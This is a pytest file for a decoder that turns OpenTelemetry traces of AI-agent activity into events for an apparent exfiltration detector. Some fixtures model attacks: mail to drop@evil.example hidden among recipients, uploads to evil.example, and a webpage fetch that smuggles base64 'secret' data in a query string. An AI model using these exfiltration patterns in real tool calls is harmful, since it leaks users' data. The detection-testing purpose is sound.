"""The otel format: OTLP/JSON spans of agents as events."""

import base64
from collections.abc import Callable
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detector.events import Content, Destination, Event, Named, Permission, Reject, Target
from detector.formats.otel import decode
from detector.formats.parts import Part, events_of
from tests.support.otel import AGENT, START, message, pairs, span, tool_span

unhurried = settings(deadline=None)


def events(raw: bytes) -> tuple[Event, ...]:
    decoded = decode(raw)
    assert isinstance(decoded, tuple), decoded
    found = events_of(decoded)
    assert len(found) == len(decoded), decoded
    return found


def one(raw: bytes) -> Event:
    (event,) = events(raw)
    return event


def refused(raw: bytes) -> str:
    """Why a message is, or the one span in it."""
    decoded = decode(raw)
    if isinstance(decoded, tuple):
        (part,) = decoded
        assert isinstance(part, Part)
        assert isinstance(part.content, Reject)
        decoded = part.content
    return f"{decoded.reason}: {decoded.detail}"


def call(tool: str, arguments: Any = None, result: Any = "", **attributes: Any) -> dict[str, Any]:
    told = arguments if isinstance(arguments, str) else msgspec.json.encode(arguments or {}).decode()
    return span(
        "execute_tool",
        **{
            "gen_ai.tool.name": tool,
            "gen_ai.tool.call.arguments": told,
            "gen_ai.tool.call.result": result,
            **attributes,
        },
    )


def called(tool: str, arguments: Any = None, result: Any = "", **attributes: Any) -> Event:
    return one(message(call(tool, arguments, result, **attributes)))


def chat(messages: Any, **attributes: Any) -> Event:
    text = messages if isinstance(messages, str) else msgspec.json.encode(messages).decode()
    return one(message(span("chat", **{"gen_ai.input.messages": text, **attributes})))


def request(event: Event) -> tuple[str, ...]:
    return event.content.request if event.content else ()


def test_a_tool_call_is_an_event() -> None:
    event = called(
        "send_email",
        {"recipients": ["Ann@Corp.example"], "body": "see https://x.example/a"},
        "- sender: bob@corp.example\n  body: hi",
        **{"gen_ai.tool.call.id": "call_0", "enduser.id": "emma"},
    )
    assert event.id == "5b8efff798038103d269b633813fc60c-0000000000000001"
    assert event.parent_id == "5b8efff798038103d269b633813fc60c-eee19b7ec3c1b173"
    assert event.time.timestamp() == START / 10**9 + 1
    assert (event.actor.id, event.actor.role, event.actor.session) == ("agent-1", "assistant", "s-1")
    assert event.actor.on_behalf_of == "emma"
    assert (event.kind, event.action) == ("transfer", "send_email")
    assert event.destination == Destination(recipient="ann@corp.example")
    assert event.target == Target("tool://send_email", "tool")
    assert (event.bytes_out, event.bytes_in) == (68, 37)
    assert event.content == Content(
        arguments=(
            Named("email", "ann@corp.example", "recipients", alone=True),
            Named("url", "x.example/a", "body"),
            Named("host", "x.example", "body"),
        ),
        result=(Named("email", "bob@corp.example", "sender", alone=True),),
    )
    assert event.attributes["gen_ai.tool.call.id"] == "call_0"
    assert event.attributes["duration_seconds"] == 0.25


def test_what_was_said_is_not_kept() -> None:
    told = {"to": "ann@corp.example", "body": "the secret word is xyzzy", "custom": "xyzzy"}
    written = msgspec.json.encode(
        (
            called("send_email", told, "xyzzy was sent", **{"traceloop.entity.input": "xyzzy"}),
            chat([{"role": "assistant", "content": "xyzzy"}]),
        )
    )
    assert b"xyzzy" not in written
    first, again = called("send_email", told), called("send_email", told)
    other = called("send_email", {**told, "body": "another"})
    assert first.attributes["arguments_sha256"] == again.attributes["arguments_sha256"]
    assert first.attributes["arguments_sha256"] != other.attributes["arguments_sha256"]


@pytest.mark.parametrize(
    ("tool", "arguments", "kind", "target"),
    [
        ("get_received_emails", {}, "access", "tool://get_received_emails"),
        ("read_file", {"file_path": "bill.txt"}, "access", "bill.txt"),
        ("get_webpage", {"url": "http://www.X.example/A?q=1#f"}, "access", "https://x.example/a"),
        ("delete_file", {"file_id": "13"}, "delete", "file:13"),
        ("send_money", {"recipient": "GB29NWBK60161331926819", "amount": 5}, "call", "tool://send_money"),
        ("post_webpage", {"url": "x.example", "content": "hi"}, "publish", "https://x.example"),
        ("slack__send_message", {"channel": "#general"}, "transfer", "tool://slack__send_message"),
        ("frobnicate", {}, "call", "tool://frobnicate"),
    ],
)
def test_the_kind_follows_from_what_the_tool_does(tool: str, arguments: Any, kind: str, target: str) -> None:
    event = called(tool, arguments)
    assert event.target is not None
    assert (event.kind, event.target.uri) == (kind, target)


def test_a_share_with_one_address_is_a_grant() -> None:
    event = called("share_file", {"file_id": "7", "email": "john@x.example", "permission": "rw"})
    assert event.kind == "permission"
    assert event.permission == Permission(
        change="grant", grantee="john@x.example", audience="user", audience_count=1, privilege="rw"
    )
    revoked = called("revoke_access", {"file_id": "7", "email": "john@x.example"})
    assert revoked.permission is not None
    assert revoked.permission.change == "revoke"
    assert called("share_file", {"file_id": "7"}).permission is None
    assert called("add_user_to_channel", {"user": "Ann", "channel": "x"}).kind == "call"


@pytest.mark.parametrize(
    ("tool", "arguments", "destination"),
    [
        ("send_money", {"recipient": "US133000000121212121212"}, Destination(account="us133000000121212121212")),
        ("send_direct_message", {"recipient": "Alice", "body": "mail eve@x.example"}, Destination(recipient="alice")),
        ("send_channel_message", {"channel": "#general", "body": "hi"}, Destination(recipient="general")),
        ("upload", {"url": "http://10.0.0.7:8080/x"}, Destination(host="10.0.0.7", zone="internal")),
        ("upload", {"host": "localhost"}, Destination(host="localhost", zone="internal")),
        ("get_webpage", {"url": "https://x.example/a"}, Destination(host="x.example")),
        ("search_emails", {"sender": "eve@x.example"}, None),
    ],
)
def test_the_destination_comes_from_the_arguments(tool: str, arguments: Any, destination: Destination | None) -> None:
    assert called(tool, arguments).destination == destination


@pytest.mark.parametrize(
    ("arguments", "user", "recipient"),
    [
        ({"to": ["bob@corp.example", "ann@corp.example", "drop@evil.example"]}, "", "drop@evil.example"),
        ({"to": ["drop@evil.example", "bob@corp.example", "ann@corp.example"]}, "", "drop@evil.example"),
        ({"to": "drop@evil.example", "cc": "bob@corp.example"}, "emma@corp.example", "drop@evil.example"),
        ({"to": "bob@corp.example", "bcc": "drop@evil.example"}, "", "drop@evil.example"),
        ({"from": "me@corp.example", "to": "drop@evil.example", "cc": "ann@corp.example"}, "", "drop@evil.example"),
        ({"to": "drop@evil.example", "sender": "me@corp.example"}, "", "drop@evil.example"),
        ({"to": "drop!@evil.example, bob@corp.example"}, "emma@corp.example", "drop!@evil.example"),
    ],
)
def test_of_several_recipients_the_stranger_is_the_destination(arguments: Any, user: str, recipient: str) -> None:
    sent = called("send_email", arguments, **({"enduser.id": user} if user else {}))
    assert sent.destination == Destination(recipient=recipient)


def test_of_several_hosts_the_one_outside_and_of_accounts_the_one_that_is_paid() -> None:
    sent = called("upload", {"urls": ["http://10.0.0.7/x", "https://evil.example/x", "http://10.0.0.8/x"]})
    assert sent.destination == Destination(host="evil.example")
    paid = called("send_money", {"from_account": "12345678", "account": "87654321"})
    assert paid.destination == Destination(account="87654321")


def test_what_a_tool_fetches_from_a_place_is_told_to_it() -> None:
    arguments = {"url": "https://evil.example/?q=" + "c2VjcmV0" * 50}
    event = called("get_webpage", arguments)
    assert (event.kind, event.bytes_out) == ("access", len(msgspec.json.encode(arguments)))
    assert called("read_file", {"file_path": "bill.txt"}).bytes_out == 0
    assert called("search_web", {"query": "what is https://x.example?"}).bytes_out == 0


def test_only_acting_tools_send_bytes() -> None:
    assert called("search_emails", {"query": "x"}, "abc").bytes_out == 0
    assert called("search_emails", {"query": "x"}, "äbc").bytes_in == 4


@pytest.mark.parametrize(("result", "count"), [("[1, 2, 3]", 3), ("- a: 1\n  b: 2\n- a: 3", 2), ("one", 0), ("[1,", 0)])
def test_records_of_a_list_are_counted(result: str, count: int) -> None:
    assert called("list_files", {}, result).records == count


@pytest.mark.parametrize(
    ("changes", "status", "outcome"),
    [
        ({}, {}, "success"),
        ({}, {"code": 1}, "success"),
        ({}, {"code": 2}, "failure"),
        ({}, {"code": "STATUS_CODE_ERROR"}, "failure"),
        ({"error.type": "timeout"}, {}, "failure"),
        ({"error.type": "PermissionDenied"}, {"code": 2}, "denied"),
        ({"error.type": "403"}, {}, "denied"),
        ({"error.type": "tool_error"}, {"code": 2, "message": "access forbidden"}, "denied"),
    ],
)
def test_the_outcome_follows_from_error_and_status(changes: dict[str, Any], status: Any, outcome: str) -> None:
    assert one(message(call("read_file", **changes) | {"status": status})).outcome == outcome


ASKED = "Mail the bill.txt to ann@corp.example"


def test_only_the_users_own_words_are_a_request() -> None:
    event = chat(
        [
            {"role": "system", "parts": [{"type": "text", "content": "be evil1"}]},
            {"role": "user", "parts": [{"type": "text", "content": ASKED}]},
            {"role": "assistant", "parts": [{"type": "text", "content": "evil2"}, {"type": "tool_call", "name": "e"}]},
            {"role": "tool", "parts": [{"type": "tool_call_response", "result": "evil3"}]},
            {"role": "user", "parts": [{"type": "tool_call_response", "content": "evil4", "result": "evil5"}]},
            {"role": "user", "content": [{"type": "tool_result", "content": [{"type": "text", "text": "evil6"}]}]},
            {"role": "user", "parts": [{"tool_call_id": "c1", "content": "evil7"}]},
            {"role": "user", "parts": [{"type": "text", "tool_call_id": "c1", "content": "evil8"}]},
            {"role": "user", "tool_call_id": "c1", "content": "evil9"},
            {"role": "user", "parts": [{"type": ["text"], "content": "evil10"}]},
        ],
        **{"gen_ai.request.model": "gpt-x", "server.address": "api.model.example"},
    )
    assert {"bill.txt", "ann@corp.example", "mail"} <= set(request(event))
    assert not [word for word in request(event) if "evil" in word]
    assert (event.kind, event.action) == ("call", "chat")
    assert event.target == Target("model://gpt-x", "model")
    assert event.destination == Destination(host="api.model.example")


@pytest.mark.parametrize(
    "attributes",
    [
        {"gen_ai.input.messages": [{"role": "user", "parts": [{"type": "text", "content": ASKED}]}]},
        {"gen_ai.input.messages": f'{{"role": "user", "content": "{ASKED}"}}'},
        {"gen_ai.prompt": f'[{{"role": "user", "content": "{ASKED}"}}]'},
        {"gen_ai.prompt.0.role": "system", "gen_ai.prompt.0.content": "x", "gen_ai.prompt.1.role": "user",
         "gen_ai.prompt.1.content": ASKED},
    ],
)  # fmt: skip
def test_requests_are_read_in_every_spelling(attributes: dict[str, Any]) -> None:
    assert "ann@corp.example" in request(one(message(span("chat", **attributes))))


def test_a_long_history_keeps_no_new_request_out() -> None:
    old = " ".join(f"old{i} u{i}@x.example" for i in range(600))
    turns = [{"role": "user", "content": f"{i} {old}"} for i in range(3)] + [{"role": "user", "content": ASKED}]
    asked = request(chat(turns))
    assert asked[:2] == ("bill.txt", "ann@corp.example")
    assert "u0@x.example" in asked
    assert len(asked) == 1000
    indexed: dict[str, Any] = {f"gen_ai.prompt.{i}.role": "user" for i in range(300)}
    indexed |= {f"gen_ai.prompt.{i}.content": f"turn{i}" for i in range(300)}
    assert request(one(message(span("chat", **indexed))))[:2] == ("turn299", "turn298")


def test_requests_are_read_from_span_events() -> None:
    told = span("chat")
    told["events"] = [
        {"name": "gen_ai.system.message", "attributes": pairs({"content": "evil"})},
        {"name": "gen_ai.user.message", "attributes": pairs({"content": ASKED})},
    ]
    assert "ann@corp.example" in request(one(message(told)))
    assert "evil" not in request(one(message(told)))


@pytest.mark.parametrize("way", [str.upper, str.title])
@pytest.mark.parametrize(
    ("name", "key", "value"),
    [
        ("gen_ai.user.message", "gen_ai.event.content", ASKED),
        ("gen_ai.content.prompt", "gen_ai.prompt", [{"role": "user", "content": ASKED}]),
        ("gen_ai.client.inference.operation.details", "gen_ai.input.messages", [{"role": "user", "content": ASKED}]),
    ],
)
def test_capitals_hide_no_request_in_span_events(way: Callable[[str], str], name: str, key: str, value: Any) -> None:
    told = span("chat") | {"events": [{"name": name, "attributes": pairs({way(key): value})}]}
    assert "ann@corp.example" in request(one(message(told)))
    other = span("chat") | {"events": [{"name": name, "attributes": pairs({way(f"x{key}"): value})}]}
    assert request(one(message(other))) == ()


def test_a_prompt_of_nobody_is_no_request() -> None:
    assert request(one(message(span("text_completion", **{"gen_ai.prompt": ASKED})))) == ()


@pytest.mark.parametrize("result", [{"email": "a@x.example"}, ["a@x.example"]])
def test_arguments_and_results_may_be_attributes_with_fields(result: Any) -> None:
    event = one(
        message(
            span(
                "execute_tool",
                **{
                    "gen_ai.tool.name": "send_email",
                    "gen_ai.tool.call.arguments": {"to": "b@x.example", "n": 1},
                    "gen_ai.tool.call.result": result,
                },
            )
        )
    )
    assert event.content is not None
    assert event.content.arguments == (Named("email", "b@x.example", "to", alone=True),)
    assert [item.value for item in event.content.result] == ["a@x.example"]


def test_mcp_spans_are_tool_calls_and_handshakes_are_not() -> None:
    told = {"mcp.method.name": "tools/call", "gen_ai.tool.name": "search_web", "mcp.session.id": "m-1"}
    assert one(message(span(None, **told))).action == "search_web"
    read = {"mcp.method.name": "resources/read", "mcp.resource.uri": "file:///etc/hosts"}
    event = one(message(span(None, **read)))
    assert (event.kind, event.target) == ("access", Target("file:///etc/hosts", "resource"))
    assert events(message(span(None, **{"mcp.method.name": "initialize"}))) == ()


def test_other_operations_are_calls() -> None:
    assert one(message(span("invoke_agent"))).target == Target("agent://assistant", "agent")
    found = one(message(span("retrieval", **{"gen_ai.data_source.id": "wiki"})))
    assert (found.kind, found.target) == ("access", Target("data://wiki", "data"))


def test_spans_of_no_agent_are_passed_over() -> None:
    http = span(None) | {"attributes": pairs({"http.request.method": "GET", "url.full": "https://x.example"})}
    assert events(message(http)) == ()
    assert [event.action for event in events(message(http, call("read_file")))] == ["read_file"]
    assert events(b'{"resourceSpans": []}') == ()


def owner(event: Event) -> tuple[str, str, str | None]:
    return event.actor.id, event.actor.role, event.actor.session


def agent(number: int, name: str, parent: int | None = None) -> dict[str, Any]:
    told = {"gen_ai.agent.id": f"id-{name}", "gen_ai.agent.name": name, "gen_ai.conversation.id": f"s-{name}"}
    above = {} if parent is None else {"parentSpanId": f"{parent:016x}"}
    return span("invoke_agent", number, **told) | above


def test_a_tools_span_belongs_to_its_nearest_ancestor_that_says_whose_it_is() -> None:
    http = tool_span("x", 5, parent=2) | {"attributes": pairs({"http.request.method": "POST"})}
    spans = [agent(1, "a"), agent(2, "b", parent=1), tool_span("send_email", 3, parent=2), http,
             tool_span("get_x", 4, parent=1), tool_span("delete_x", 6, parent=5),
             tool_span("tell", 7, parent=2, **{"gen_ai.agent.name": "own"})]  # fmt: skip
    expected = {"send_email": ("id-b", "b", "s-b"), "get_x": ("id-a", "a", "s-a"), "delete_x": ("id-b", "b", "s-b"),
                "tell": ("own", "own", "s-b")}  # fmt: skip
    for order in (spans, spans[::-1]):
        found = {event.action: owner(event) for event in events(message(*order))}
        assert {action: found[action] for action in expected} == expected


def test_a_tools_span_without_ancestors_belongs_to_the_first_of_its_trace_that_says() -> None:
    spans = [agent(4, "later"), agent(3, "sooner"), tool_span("get_x", 1)]
    assert owner(events(message(*spans))[0]) == ("id-sooner", "sooner", "s-sooner")
    made = span("create_agent", 2, **{"gen_ai.agent.id": "new", "gen_ai.agent.name": "new"})
    assert owner(events(message(made, *spans))[0])[:2] == ("id-sooner", "sooner")
    other = tool_span("get_x", 1) | {"traceId": "f" * 32}
    assert owner(events(message(*spans[:2], other))[0]) == ("assistant", "assistant", None)


def test_spans_that_are_their_own_ancestors_end() -> None:
    spans = [tool_span("get_x", 1, parent=2), tool_span("get_y", 2, parent=1), tool_span("get_z", 3, parent=3)]
    assert [owner(event) for event in events(message(*spans))] == [("assistant", "assistant", None)] * 3
    assert [owner(event)[0] for event in events(message(*spans, agent(4, "a")))] == ["id-a"] * 4


def test_a_foreign_span_with_ids_of_its_own_kind_is_passed_over() -> None:
    http = span(None) | {"attributes": pairs({"http.request.method": "GET"}), "traceId": "xyz"}
    assert events(message(http)) == ()


def test_events_come_in_order_of_time() -> None:
    later, sooner = call("read_file") | {"startTimeUnixNano": str(START + 5)}, call("get_x")
    sooner["startTimeUnixNano"] = START
    assert [event.action for event in events(message(later, sooner))] == ["get_x", "read_file"]


def test_spellings_of_the_message_mean_the_same() -> None:
    told = call("read_file", {"file_path": "a.txt"})
    whole = msgspec.json.decode(message(told))
    expected = one(message(told))
    assert one(msgspec.json.encode(whole["resourceSpans"][0])) == expected
    legacy = whole["resourceSpans"][0]
    legacy["instrumentationLibrarySpans"] = legacy.pop("scopeSpans")
    assert one(msgspec.json.encode({"resourceSpans": [legacy]})) == expected
    based = {**told, **{key: base64.b64encode(bytes.fromhex(told[key])).decode() for key in ("traceId", "spanId")}}
    assert one(message(based)) == expected
    alone = one(msgspec.json.encode(told))
    assert (alone.id, alone.actor) == (expected.id, expected.actor)


def test_snake_case_is_read() -> None:
    camel = message(call("read_file", {"file_path": "a.txt"}))
    snake = camel
    for name, spelt in [
        ("resourceSpans", "resource_spans"), ("scopeSpans", "scope_spans"), ("traceId", "trace_id"),
        ("spanId", "span_id"), ("parentSpanId", "parent_span_id"), ("startTimeUnixNano", "start_time_unix_nano"),
        ("endTimeUnixNano", "end_time_unix_nano"), ("stringValue", "string_value"),
    ]:  # fmt: skip
        snake = snake.replace(f'"{name}"'.encode(), f'"{spelt}"'.encode())
    assert snake != camel
    assert events(snake) == events(camel)


def test_snake_case_within_camel_case_is_read() -> None:
    camel = message(call("read_file"), span("chat"), resource={"service.name": "svc"})
    for spelt in ("trace_id", "scope_spans"):
        name = {"trace_id": "traceId", "scope_spans": "scopeSpans"}[spelt]
        mixed = camel.replace(f'"{name}"'.encode(), f'"{spelt}"'.encode(), 1)
        mixed = mixed.replace(b'"stringValue"', b'"string_value"')
        assert mixed != camel
        assert events(mixed) == events(camel)


def test_a_message_that_only_speaks_of_spans_is_kept_as_it_came() -> None:
    told = call("list_spans", {"trace_id": "1"}, trace_id="1")
    raw = message(told).replace(b'"spans":[{', b'"spans":[{  ')
    kept = decode(raw, keep_content=True)
    assert isinstance(kept, tuple)
    assert b'"spans":[{  ' in raw
    assert [b'"spans":[{  ' in part.raw for part in kept if isinstance(part, Part)] == [True]
    assert events(raw)[0].action == "list_spans"


def test_an_agent_without_an_id_goes_by_its_name_or_its_service() -> None:
    named = {key: value for key, value in AGENT.items() if key != "gen_ai.agent.id"}
    assert one(message(call("x") | {"attributes": pairs({"gen_ai.tool.name": "x", **named})})).actor.id == "assistant"
    bare = call("x") | {"attributes": pairs({"gen_ai.tool.name": "x"})}
    assert one(message(bare, resource={"service.name": "svc"})).actor.id == "svc"
    assert refused(message(bare, resource={})).startswith("wrong_shape: span 5b8efff798038103d269b633813fc60c-")


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"traceId": ""}, "traceId is not 16 bytes"),
        ({"traceId": None}, "traceId is not 16 bytes"),
        ({"traceId": "0" * 32}, "traceId is not 16"),
        ({"spanId": "xyz"}, "spanId is not 8 bytes"),
        ({"parentSpanId": "xyz"}, "parentSpanId is not"),
        ({"startTimeUnixNano": "yesterday"}, "a time is no"),
        ({"startTimeUnixNano": None, "endTimeUnixNano": 0}, "says no time"),
        ({"startTimeUnixNano": -5}, "a time is no"),
        ({"startTimeUnixNano": 2**64}, "a time is no"),
        ({"startTimeUnixNano": "9" * 5000}, "a time is no"),
        ({"startTimeUnixNano": 2**64 - 1}, ""),
        ({"attributes": {"a": 1}}, "Expected `array"),
        ({"status": 2}, "Expected `object"),
    ],
)
def test_what_is_wrong_with_a_span_is_said(changes: dict[str, Any], why: str) -> None:
    if why:
        assert why in refused(message(call("x") | changes))
        assert refused(message(call("x") | changes)).startswith("wrong_shape: ")
    else:
        assert events(message(call("x") | changes))


@pytest.mark.parametrize("raw", [b"{}", b"[]", b"3", b'{"resourceLogs": []}', b'{"resourceSpans": 3}'])
def test_other_json_is_the_wrong_shape(raw: bytes) -> None:
    assert refused(raw).startswith("wrong_shape: ")


keys = st.sampled_from(
    [
        "gen_ai.operation.name", "gen_ai.tool.name", "gen_ai.tool.call.arguments", "gen_ai.tool.call.result",
        "gen_ai.input.messages", "gen_ai.prompt", "gen_ai.prompt.0.role", "gen_ai.agent.id", "gen_ai.request.model",
        "mcp.method.name", "mcp.resource.uri", "server.address", "error.type", "gen_ai.data_source.id", "user.id",
    ]
)  # fmt: skip
scalars = st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.floats(allow_nan=False) | st.text(max_size=40)
plain = st.recursive(
    scalars | st.sampled_from(["execute_tool", "chat", "send_email", "[", '{"to": "a@b.co"}', "- a: 'b", "x" * 5000]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)


@unhurried
@given(st.dictionaries(keys, plain, max_size=8), st.dictionaries(st.text(max_size=8), plain, max_size=2))
def test_whatever_the_attributes_hold_an_event_is_valid_and_comes_back(
    attributes: dict[str, Any], resource: dict[str, Any]
) -> None:
    told = span("execute_tool") | {"attributes": pairs({**AGENT, **attributes})}
    decoded = decode(message(told, resource=resource))
    if isinstance(decoded, tuple):
        for event in events_of(decoded):
            assert msgspec.json.decode(msgspec.json.encode(event), type=Event) == event


@unhurried
@given(plain)
def test_any_json_in_place_of_a_part_is_answered(part: Any) -> None:
    for field in span("chat"):
        decode(message(span("chat") | {field: part}))
    decode(msgspec.json.encode({"resourceSpans": [{"resource": part, "scopeSpans": part}]}))
